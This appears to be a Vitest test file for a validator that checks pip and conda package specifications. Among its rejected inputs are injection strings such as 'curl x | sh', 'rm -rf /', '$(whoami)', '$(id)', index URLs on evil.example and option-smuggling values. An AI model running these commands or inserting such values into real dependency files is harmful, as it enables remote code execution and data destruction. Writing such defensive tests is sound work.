import { describe, expect, it } from "vitest";
import { condaSpecSchema, parseEnvironmentYml, parseRequirementsTxt, pipRequirementSchema, requirementName } from "./package-specs";

describe("pip requirements (PEP 508 without direct references)", () => {
  it.each(["numpy", "numpy>=1.26", "scikit-learn==1.5.0", "torch>=2.1,<2.4", "requests[socks,security]>=2", 'uvloop; sys_platform != "win32"', 'tomli>=2; python_version < "3.11"', "zope.interface~=6.0", "numpy (>=1.0, <2)", "requests [socks] >= 2", 'pkg; python_version not in "3.8 3.9"', "pkg[]"])(
    "accepts %s",
    (spec) => expect(pipRequirementSchema.safeParse(spec).success).toBe(true),
  );

  it.each([
    "numpy; curl x | sh",
    "numpy && rm -rf /",
    "numpy\nRUN curl evil",
    "pkg @ https://evil.example/pkg.whl",
    "$(whoami)",
    "`id`",
    "--index-url https://evil.example/simple",
    "-r other.txt",
    "numpy>=1.0; os.system('x')",
    "",
    // pip cuts a line at spaces and reads a piece starting with `-` as an option
    "tinyml>= --pre",
    "tinyml>=1, >= --no-index",
    'tinyml; extra == "a -rextra.txt"',
    // unbalanced parentheses used to pass
    "numpy(>=1.0",
    "numpy>=1.0)",
    // whitespace PEP 508 does not allow
    "num py",
    "numpy; python_version<'3'and os_name=='nt'",
  ])("refuses %j", (spec) => expect(pipRequirementSchema.safeParse(spec).success).toBe(false));

  it("normalises names as PEP 503 does", () => {
    expect(requirementName("Zope.Interface~=6.0")).toBe("zope-interface");
    expect(requirementName("scikit_learn")).toBe("scikit-learn");
  });
});

describe("conda match specs", () => {
  it.each(["numpy", "numpy=1.26", "python>=3.10,<3.12", "pytorch 2.3.* py3.11_cuda12.1_0", "libgcc-ng", "_libgcc_mutex"])("accepts %s", (spec) =>
    expect(condaSpecSchema.safeParse(spec).success).toBe(true),
  );
  it.each(["conda-forge::numpy", "numpy; rm -rf /", "numpy=1.0\nRUN x", "NumPy", "numpy=$(id)", "https://x/numpy.tar.bz2"])("refuses %j", (spec) =>
    expect(condaSpecSchema.safeParse(spec).success).toBe(false),
  );
});

describe("pasted files", () => {
  it("reads requirements.txt, skipping comments and reporting each bad line by number", () => {
    const r = parseRequirementsTxt("# tools\nnumpy>=1.26  # arrays\n\n--extra-index-url https://evil.example\npandas\n");
    expect(r.requirements).toEqual(["numpy>=1.26", "pandas"]);
    expect(r.errors).toHaveLength(1);
    expect(r.errors[0]).toMatch(/^line 4: /);
  });

  it("reads environment.yml dependencies and its pip list, ignoring channels", () => {
    const yml = ["name: x", "channels:", "  - defaults", "dependencies:", "  - python=3.11", "  - numpy>=1.26", "  - pip", "  - pip:", "    - requests==2.32.3", "    - tqdm", "  - pandas"].join("\n");
    const r = parseEnvironmentYml(yml);
    expect(r.conda).toEqual(["python=3.11", "numpy>=1.26", "pip", "pandas"]);
    expect(r.pip).toEqual(["requests==2.32.3", "tqdm"]);
    expect(r.errors).toEqual([]);
  });

  it("reports a channel override inside environment.yml", () => {
    const r = parseEnvironmentYml("dependencies:\n  - conda-forge::numpy\n");
    expect(r.conda).toEqual([]);
    expect(r.errors[0]).toMatch(/^line 2: /);
  });
});
